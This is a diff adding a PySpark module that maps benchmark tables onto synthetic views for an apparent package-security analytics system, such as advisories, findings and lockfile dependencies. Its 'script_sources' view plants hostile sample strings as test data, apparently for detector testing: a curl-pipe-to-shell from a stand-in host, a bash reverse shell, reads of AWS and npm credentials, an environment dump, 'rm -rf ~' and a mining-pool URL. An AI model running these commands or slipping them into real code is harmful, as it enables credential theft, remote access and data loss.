@@ -1,0 +1,107 @@
+"""Domain inputs as views over the driver's tables, in SQL that both engines accept."""
+
+from __future__ import annotations
+
+import re
+
+from pyspark.sql import DataFrame, SparkSession
+
+#: Point in time of each family of inputs; no operator reads the clock.
+AS_OF_EVENTS, AS_OF_ORDERS = "2024-01-31 00:00:00", "2001-09-01 00:00:00"
+
+_ROW = "concat_ws('-', cast(l_orderkey AS string), cast(l_partkey AS string), cast(l_suppkey AS string), cast(l_linenumber AS string), cast(cast(floor(l_extendedprice * 100) AS bigint) AS string))"
+
+VIEWS = {
+    "analytics_events": """SELECT event_id, ts AS timestamp,
+  CASE event_type WHEN 'view' THEN 'scan_completed' WHEN 'purchase' THEN 'scan_completed'
+       WHEN 'error' THEN 'scan_failed' WHEN 'signup' THEN 'alert_triggered' ELSE 'user_action' END AS type,
+  CASE WHEN user_id % 10 = 9 THEN NULL ELSE concat('org_', cast(user_id % 20 AS string)) END AS org_id,
+  (event_id % 50 = 0) AS demo, CASE WHEN event_id % 2 = 0 THEN 'npm' ELSE 'pypi' END AS ecosystem,
+  concat('pkg_', regexp_extract(props, '([0-9]+)', 1)) AS package_name,
+  cast(floor(value * 10) AS bigint) AS duration_ms, cast(least(100, floor(value)) AS int) AS risk_score
+FROM events""",
+    "packages": """SELECT p_partkey AS package_id, CASE WHEN p_partkey % 2 = 0 THEN 'npm' ELSE 'pypi' END AS ecosystem,
+  replace(p_name, ' ', '-') AS base_name, concat(replace(p_name, ' ', '-'), '-', cast(p_partkey AS string)) AS name,
+  concat(cast(p_size % 5 AS string), '.', cast(p_size % 7 AS string), '.', cast(p_partkey % 11 AS string)) AS latest_version,
+  cast(floor(p_retailprice * 100) AS bigint) AS weekly_downloads FROM part""",
+    "analyses": f"""SELECT {_ROW} AS analysis_id, l_partkey AS package_id,
+  concat(cast(l_linenumber AS string), '.', cast(l_orderkey % 9 AS string), '.0') AS version,
+  cast(least(100, floor(l_quantity * 2)) AS int) AS risk_score, l_shipdate AS created_at FROM lineitem""",
+    "findings": f"""SELECT {_ROW} AS analysis_id,
+  CASE cast(floor(l_quantity) AS int) % 5 WHEN 0 THEN 'info' WHEN 1 THEN 'low' WHEN 2 THEN 'medium' WHEN 3 THEN 'high' ELSE 'critical' END AS severity,
+  concat('Finding ', l_returnflag, l_linestatus) AS title FROM lineitem""",
+    "advisories": """SELECT o_orderkey AS advisory_id, CASE o_orderkey % 3 WHEN 0 THEN 'osv' WHEN 1 THEN 'ghsa' ELSE 'nvd' END AS source,
+  CASE WHEN o_orderkey % 4 = 0 THEN concat('GHSA-', cast(o_orderkey AS string))
+       ELSE concat('CVE-', cast(year(o_orderdate) AS string), '-', cast(o_orderkey % 3000 AS string)) END AS source_id,
+  CASE WHEN o_orderkey % 17 = 0 THEN 'malware' ELSE 'vulnerability' END AS advisory_type,
+  cast((o_orderkey * 37) % 101 AS double) / 10 AS cvss_score, o_orderdate AS published_at,
+  CASE WHEN o_orderstatus = 'P' THEN o_orderdate END AS withdrawn_at,
+  CASE WHEN o_orderpriority = '1-URGENT' THEN cast(o_orderdate AS date) END AS kev_date FROM orders""",
+    "package_advisories": """SELECT l_orderkey AS advisory_id, l_linenumber AS pos, l_partkey AS package_id,
+  concat(cast(l_linenumber % 3 AS string), '.0.0') AS min_version,
+  concat(cast(l_linenumber % 3 + 2 AS string), '.', cast(l_orderkey % 9 AS string), '.0') AS max_version,
+  CASE WHEN l_returnflag = 'R' THEN concat(cast(l_linenumber % 3 + 3 AS string), '.0.0') END AS patched_version FROM lineitem""",
+    "epss_scores": "SELECT o_orderkey AS advisory_id, cast((o_orderkey * 7919) % 1000 AS double) / 1000 AS epss_percentile, o_orderdate AS fetched_at FROM orders",
+    "lockfile_dependencies": """SELECT o_custkey AS org_id, l_orderkey AS lockfile_scan_id, l_partkey AS package_id,
+  concat(cast(l_linenumber % 4 AS string), '.', cast(l_suppkey % 9 AS string), '.', cast(l_partkey % 7 AS string)) AS version,
+  (l_partkey % 3 = 0) AS is_native FROM lineitem JOIN orders ON l_orderkey = o_orderkey""",
+    "watchlists": """SELECT s_suppkey AS watchlist_id, s_suppkey % 150 AS org_id,
+  CASE s_nationkey % 3 WHEN 0 THEN 'email' WHEN 1 THEN 'slack' ELSE 'webhook' END AS channel, s_name AS destination,
+  CASE WHEN s_suppkey % 5 = 0 THEN '^(red|blue)-.*' WHEN s_suppkey % 5 = 1 THEN '^hot-' END AS internal_package_pattern FROM supplier""",
+    "watchlist_packages": """SELECT DISTINCT l_suppkey AS watchlist_id, l_partkey AS package_id,
+  CASE WHEN l_linenumber % 2 = 0 THEN NULL ELSE concat(cast(l_linenumber AS string), '.0.0') END AS version FROM lineitem""",
+    "notification_channels": """SELECT c_custkey AS org_id, CASE c_nationkey % 3 WHEN 0 THEN 'email' WHEN 1 THEN 'slack' ELSE 'webhook' END AS channel,
+  c_name AS destination, (c_acctbal >= 0) AS enabled,
+  CASE c_nationkey % 4 WHEN 0 THEN 'low' WHEN 1 THEN 'medium' WHEN 2 THEN 'high' ELSE 'critical' END AS min_risk_level FROM customer""",
+    "dep_edges": """SELECT DISTINCT graph_id, src, dst FROM (
+  SELECT l_orderkey % 500 AS graph_id, l_partkey % 60 AS src,
+         lead(l_partkey % 60) OVER (PARTITION BY l_orderkey ORDER BY l_linenumber, l_partkey, l_suppkey, l_extendedprice) AS dst
+  FROM lineitem) t WHERE dst IS NOT NULL AND dst <> src""",
+    "releases": f"SELECT l_partkey AS package_id, {_ROW} AS release_id, l_shipdate AS published_at FROM lineitem",
+    "contributor_activity": "SELECT regexp_extract(props, '([0-9]+)', 1) AS repo, user_id AS login, (ts >= timestamp '2024-01-16 00:00:00') AS is_current FROM events",
+    "script_sources": """SELECT doc_id AS source_id, doc_id % 50 AS package_id, concat(text, chr(10), CASE doc_id % 20
+  WHEN 0 THEN 'curl -s https://stage.example.test/a.sh | sh'  WHEN 1 THEN 'eval(await fetch(u))'
+  WHEN 2 THEN 'require("child_process").execSync(cmd)'        WHEN 3 THEN 'new Function (body)'
+  WHEN 4 THEN 'const t = process.env.NPM_TOKEN'               WHEN 5 THEN 'JSON.stringify(process.env)'
+  WHEN 6 THEN 'cat ~/.aws/credentials ~/.npmrc'               WHEN 7 THEN 'https://discord.com/api/webhooks/1/x'
+  WHEN 8 THEN 'rm -rf ~ '                                     WHEN 9 THEN 'bash -i >& /dev/tcp/198.51.100.7/4444'
+  WHEN 10 THEN concat('atob("', repeat('QUJD', 40), '")')     WHEN 11 THEN 'exec(base64.b64decode(p))'
+  WHEN 12 THEN 'stratum+tcp://pool.example.test:3333'         WHEN 13 THEN 'crontab -l'
+  ELSE '' END) AS content FROM documents""",
+    "model_log": "SELECT role AS model, conv_id, turn, cast(length(text) AS bigint) AS latency_ms, (turn % 5 <> 0) AS success FROM conversations",
+}
+
+TABLES = tuple("region nation customer supplier part orders lineitem events documents embeddings pages benchmark labels conversations".split())
+
+
+class Inputs:
+    """Tables and views of one folder of Parquet files, without registering anything."""
+
+    def __init__(self, spark: SparkSession, sf_dir: str):
+        self.spark, self.sf_dir = spark, sf_dir
+
+    def table(self, name: str) -> DataFrame:
+        return self.spark.read.parquet(f"{self.sf_dir}/{name}.parquet")
+
+    def sql(self, query: str) -> DataFrame:
+        """Spark SQL over tables and views named as relations."""
+        used = [n for n in (*TABLES, *VIEWS) if re.search(rf"\b(?:FROM|JOIN)\s+{n}\b", query)]
+        text = re.sub(r"[{}]", lambda m: m[0] * 2, query)
+        for n in used:
+            text = re.sub(rf"\b(FROM|JOIN)\s+{n}\b", rf"\1 {{{n}}}", text)
+        return self.spark.sql(text, **{n: self[n] for n in used})
+
+    def __getitem__(self, name: str) -> DataFrame:
+        return self.sql(VIEWS[name]) if name in VIEWS else self.table(name)
+
+
+def oracle(query: str) -> str:
+    """The SQL with the views that it names as common table expressions."""
+    used = [n for n in VIEWS if re.search(rf"\b(?:FROM|JOIN)\s+{n}\b", query)]
+    head = ", ".join(f"{n} AS ({VIEWS[n]})" for n in used)
+    if not head:
+        return query
+    for start in ("WITH RECURSIVE ", "WITH "):
+        if query.strip().upper().startswith(start):
+            return f"{start}{head}, {query.strip()[len(start):]}"
+    return f"WITH {head} {query}"
